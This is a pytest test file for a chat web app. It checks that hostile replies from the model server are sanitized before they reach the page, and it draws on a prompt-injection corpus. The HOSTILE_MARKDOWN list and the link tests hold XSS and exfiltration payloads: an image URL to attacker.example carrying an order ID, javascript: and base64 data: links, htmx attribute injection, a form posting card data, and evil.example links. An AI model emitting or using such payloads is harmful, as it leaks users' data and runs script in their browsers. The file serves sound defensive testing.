"""Model output is untrusted: hostile replies from the model server reach the page defused."""

import json
import re
from html.parser import HTMLParser

import pytest

from tests.conftest import DATA

CORPUS = DATA / "prompt-injection" / "corpus.jsonl"

HOSTILE_MARKDOWN = [
    "Here is your receipt ![r](https://attacker.example/p?d=ORDER-1234)",
    "[click me](javascript:alert(document.domain))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<div hx-get="/admin" hx-trigger="load">hi</div>',
    '<a href="https://ok.example" onclick="alert(1)" hx-post="/chat/messages">x</a>',
    "<iframe src=https://attacker.example></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://attacker.example><input name=card></form>",
]


def corpus_payloads() -> list[str]:
    # split("\n"), not splitlines(): some payloads hold U+2028 and friends.
    rows = [json.loads(line) for line in CORPUS.read_text().split("\n") if line]
    wanted = {"xss_payload", "markdown_exfil", "xss_via_output", "htmx_attribute_injection"}
    return [row["text"] for row in rows if row["category"] in wanted]


class ReplyMarkup(HTMLParser):
    """Every tag and attribute inside the reply container."""

    def __init__(self):
        super().__init__()
        self.depth = 0
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if self.depth or (tag == "div" and attributes.get("class") == "reply"):
            if self.depth:
                self.tags.append((tag, attributes))
            self.depth += 1

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= 1


def reply_markup(html: str) -> list[tuple[str, dict]]:
    parser = ReplyMarkup()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize("payload", HOSTILE_MARKDOWN + corpus_payloads())
def test_hostile_model_reply_is_rendered_harmless(customer, model_server, payload):
    model_server.reply_with(payload)
    html = customer.ask("Hello")

    assert 'class="reply" hx-disable' in html
    for tag, attributes in reply_markup(html):
        assert tag in {
            "a",
            "p",
            "em",
            "strong",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "br",
            "blockquote",
            "hr",
            "h3",
            "h4",
        }
        for name, value in attributes.items():
            assert name in {"href", "rel"}, (tag, name)
            assert not (value or "").lower().startswith(("javascript:", "data:", "http:")), value
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


@pytest.mark.app_config(LINK_HOSTS="shop.example")
def test_links_are_https_or_mailto_and_open_nothing(customer, model_server):
    model_server.reply_with(
        "See [returns](https://shop.example/returns) or [mail us](mailto:help@shop.example)."
    )
    html = customer.ask("Hello")
    assert (
        '<a href="https://shop.example/returns" rel="noopener noreferrer nofollow">returns</a>'
        in html
    )
    assert (
        '<a href="mailto:help@shop.example" rel="noopener noreferrer nofollow">mail us</a>' in html
    )


def test_markdown_lists_and_emphasis_render(customer, model_server):
    model_server.reply_with("Two options:\n\n- **Standard**: 3-5 days\n- *Express*: 1-2 days")
    html = customer.ask("Hello")
    assert "<ul>" in html and "<li><strong>Standard</strong>: 3-5 days</li>" in html


@pytest.mark.app_config(LINK_HOSTS="shop.example", PUBLIC_BASE_URL="https://help.example.org")
def test_links_go_only_to_hosts_the_business_lists(customer, model_server):
    model_server.reply_with(
        "[a](https://www.shop.example/a) [b](https://help.example.org/b) "
        "[c](https://evil.example/?q=card-4242) [d](https://shop.example.evil.example/) "
        "[e](http://shop.example/plain)"
    )
    html = customer.ask("Hello")
    hrefs = re.findall(r'href="([^"]+)"', html)
    assert hrefs == ["https://www.shop.example/a", "https://help.example.org/b"]
    for text in ("c", "d", "e"):  # the words stay, without a link
        assert f'<a rel="noopener noreferrer nofollow">{text}</a>' in html
